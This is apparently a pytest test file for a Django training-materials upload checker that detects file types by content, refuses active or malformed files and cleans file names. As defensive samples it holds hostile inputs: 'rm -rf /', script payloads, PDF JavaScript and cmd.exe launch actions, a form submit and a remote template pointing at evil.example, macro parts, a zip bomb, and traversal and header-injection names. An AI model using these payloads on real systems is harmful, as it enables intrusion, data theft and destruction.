"""Material: known by its content, refused when it could act by itself, handed out only as a download and only to its readers."""

import io
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from influencers.material_types import kind_of
from influencers.models import Material, StoredFile
from influencers.services import materials
from network.errors import RightMissing, RuleBroken
from tests import factories

OFFICE = "application/vnd.openxmlformats-officedocument."
TYPES = '<?xml version="1.0"?><Types><Override PartName="/main.xml" ContentType="{}.main+xml"/></Types>'
RELATION = (
    '<?xml version="1.0"?><Relationships>'
    '<Relationship Id="r1" Type="{}" Target="{}" TargetMode="External"/></Relationships>'
)
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 30 + b"IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0" + b"\0" * 30 + b"\xff\xd9"
EICAR_LIKE = b"MZ\x90\x00 This program cannot be run in DOS mode."


def pdf(body: bytes = b"<< /Type /Catalog >>") -> bytes:
    return b"%PDF-1.7\n1 0 obj " + body + b" endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def packed(objects: bytes, *, kind: bytes = b"/ObjStm", filter_: bytes = b"/FlateDecode") -> bytes:
    stream = zlib.compress(objects) if filter_ == b"/FlateDecode" else objects
    return pdf(b"<< /Type " + kind + b" /Filter " + filter_ + b" >> stream\r\n" + stream + b"\nendstream")


def package(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def office(kind: str = "wordprocessingml.document", **parts: str | bytes) -> bytes:
    names = {
        name.replace("__", "/").replace("_rels_", "_rels/").replace("_dot_", "."): text for name, text in parts.items()
    }
    return package({"[Content_Types].xml": TYPES.format(OFFICE + kind), "main.xml": "<a/>"} | names)


def odp(content: str = "<office:document-content/>", **parts: str) -> bytes:
    return package({"mimetype": "application/vnd.oasis.opendocument.presentation", "content.xml": content} | parts)


def relation(kind: str, target: str = "https://evil.example/x.dotm") -> bytes:
    return office(word___rels_document_dot_xml_dot_rels=RELATION.format(kind, target))


@pytest.mark.parametrize(
    ("content", "ending"),
    [
        (pdf(), "pdf"),
        (packed(b"<< /Type /Page >>"), "pdf"),
        (pdf(b"<< /OpenAction [1 0 R /XYZ null null 0] >>"), "pdf"),
        (PNG, "png"),
        (JPEG, "jpg"),
        (office(), "docx"),
        (office("presentationml.presentation"), "pptx"),
        (office("spreadsheetml.sheet"), "xlsx"),
        (relation("http://x/relationships/hyperlink", "https://example.org/"), "docx"),
        (odp(), "odp"),
    ],
)
def test_what_is_harmless_is_known_by_its_content(content, ending):
    assert kind_of(content).ending == ending


@pytest.mark.parametrize(
    "content",
    [
        b"",
        EICAR_LIKE,
        b"#!/bin/sh\nrm -rf /",
        b"<html><script>alert(1)</script></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"GIF89a<script>alert(1)</script>",
        b"\n%PDF-1.4\n%%EOF",
        b"\x89PNG\r\n\x1a\n<script>",
        package({"classes.dex": b"x"}),
        package({"[Content_Types].xml": TYPES.format("application/x-other")}),
        package({"index.html": "<script>"}),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,  # the old Word: macros can't be told apart
    ],
    ids=range(12),
)
def test_other_kinds_are_refused_whatever_they_are_called(content):
    with pytest.raises(RuleBroken) as broken:
        kind_of(content)
    assert broken.value.code == "wrong_kind"


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        pdf(b"<< /S /J#61va#53cript /JS (x) >>"),
        pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        pdf(b"<< /Names << /EmbeddedFiles 2 0 R >> >>"),
        pdf(b"<< /AcroForm << /XFA 3 0 R >> >>"),
        pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"),
        packed(b"<< /S /JavaScript /JS (x) >>"),
        packed(b"<< /S /#4aavaScript >>"),
        packed(b"<< /S /JavaScript >>", kind=b"/Obj#53tm"),
        office(word__vbaProject_dot_bin=b"x"),
        package({"[Content_Types].xml": TYPES.format("application/vnd.ms-word.document.macroEnabled"), "a": ""}),
        office("spreadsheetml.sheet", xl__macrosheets__sheet1_dot_xml="<x/>"),
        office(word__activeX__activeX1_dot_xml="<x/>"),
        office(word__embeddings__oleObject1_dot_bin=b"x"),
        relation("http://x/relationships/attachedTemplate"),
        relation("http://x/relationships/oleObject"),
        relation("http://x/relationships/image", "\\\\evil.example\\share\\x.png"),
        office(_rels___dot_rels=RELATION.format("a", "b").replace("External", "&#69;xternal")),
        office(_rels___dot_rels=RELATION.format("a", "b").encode("utf-16")),
        office(_rels___dot_rels='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        odp(**{"Basic/Standard/Module1.xml": "<x/>"}),
        odp('<a xmlns:script="s" xmlns:xlink="l"><script:event-listener xlink:href="vnd.sun.star.script:x"/></a>'),
    ],
    ids=range(22),
)
def test_what_could_act_by_itself_is_refused(content):
    with pytest.raises(RuleBroken) as broken:
        kind_of(content)
    assert broken.value.code == "active_content"


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7 cut off",
        packed(b"\x80\x0b\x60\x50", filter_=b"/LZWDecode"),
        packed(b" " * 3_000_000 + b"<< /S /JavaScript >>"),
        b"PK\x03\x04" + b"\xff" * 200,
        office()[:-30],
        office(_rels___dot_rels="<not closed"),
        office(word__big_dot_rels=b"<a>" + b" " * 5_000_000),
        package({f"part{number}": "" for number in range(3_001)}),
        package({"[Content_Types].xml": TYPES.format(OFFICE), "bomb": b"\0" * 201_000_000}),
    ],
    ids=range(9),
)
def test_what_can_not_be_checked_is_refused(content):
    with pytest.raises(RuleBroken) as broken:
        kind_of(content)
    assert broken.value.code == "unreadable"


def test_every_beginning_of_a_file_is_judged_without_failing():
    for whole in (pdf(), packed(b"<< >>"), office(), odp(), PNG, JPEG):
        for length in range(0, len(whole), 7):
            try:
                kind_of(whole[:length])
            except RuleBroken as error:
                assert error.code in ("wrong_kind", "unreadable", "active_content")


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("../../etc/passwd.pdf", "passwd"),
        ("C:\\Users\\x\\परचा 1.docx", "परचा 1"),
        ("a\u202egnp.exe.pdf", "a gnp exe"),
        ('x"; filename="y.html', "x filename y"),
        ("\r\nSet-Cookie: a=b.pdf", "Set-Cookie a b"),
        ("<script>.pdf", "script"),
        ("...", "file"),
        ("अ" * 300 + ".pdf", "अ" * 80),
    ],
)
def test_names_are_made_plain(name, clean):
    assert materials.clean_name(name) == clean


def test_a_file_is_handed_out_as_a_download_and_nothing_else(party, district_lead, client_of):
    training = factories.make_training(party.district)
    material = materials.add(training, title="परचा", name="पर्चा.html.pdf", content=pdf(), by=district_lead)
    answer = client_of(district_lead).get(f"/trainings/materials/{material.file.code}/")
    assert (answer.content, answer.headers["Content-Type"]) == (pdf(), "application/pdf")
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert "%20html.pdf" in answer.headers["Content-Disposition"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in answer.headers["Cache-Control"]


def test_material_is_for_those_who_are_invited_and_for_leads(
    party, volunteer, district_lead, neighbour_lead, client_of
):
    training = factories.make_training(party.district)
    path = f"/trainings/materials/{factories.make_material(training).file.code}/"
    before = client_of(volunteer).get(path).status_code
    factories.make_attendance(training, volunteer.person)
    after = [client_of(user).get(path).status_code for user in (volunteer, district_lead, neighbour_lead)]
    assert (before, after) == (404, [200, 200, 404])


def test_a_file_is_added_and_removed_by_who_holds_the_training(party, district_lead, neighbour_lead, client_of):
    training = factories.make_training(party.district)
    for by in (neighbour_lead,):
        with pytest.raises(RightMissing):
            materials.add(training, title="x", name="x.pdf", content=pdf(), by=by)
    client = client_of(district_lead)
    body = {"title": "परचा", "file": SimpleUploadedFile("परचा.pdf", pdf(), content_type="text/html")}
    client.post(f"/trainings/{training.code}/materials/", body)
    material = Material.objects.get()
    assert (material.title, material.file.name, material.file.content_type) == ("परचा", "परचा.pdf", "application/pdf")
    client.post(f"/trainings/materials/{material.file.code}/remove/")
    assert not Material.objects.exists()
    assert not StoredFile.objects.exists()


def test_a_bad_file_is_said_on_the_page_and_not_kept(party, district_lead, client_of):
    training = factories.make_training(party.district)
    bodies = [
        {"title": "x", "file": SimpleUploadedFile("x.pdf", EICAR_LIKE)},
        {"title": "x", "file": SimpleUploadedFile("x.pdf", pdf() + b"\0" * 5_000_001)},
        {"title": "", "file": SimpleUploadedFile("x.pdf", pdf())},
        {"title": "x"},
    ]
    pages = [
        client_of(district_lead).post(f"/trainings/{training.code}/materials/", body, follow=True).content.decode()
        for body in bodies
    ]
    said = ["केवल PDF", "5 एमबी", "शीर्षक दें", "शीर्षक दें"]
    assert [words in page for words, page in zip(said, pages, strict=True)] == [True] * 4
    assert not StoredFile.objects.exists()


def test_a_training_has_ten_files_at_most(party, district_lead):
    training = factories.make_training(party.district)
    for _ in range(materials.MOST_FILES):
        factories.make_material(training)
    with pytest.raises(RuleBroken) as broken:
        factories.make_material(training)
    assert broken.value.code == "too_many"
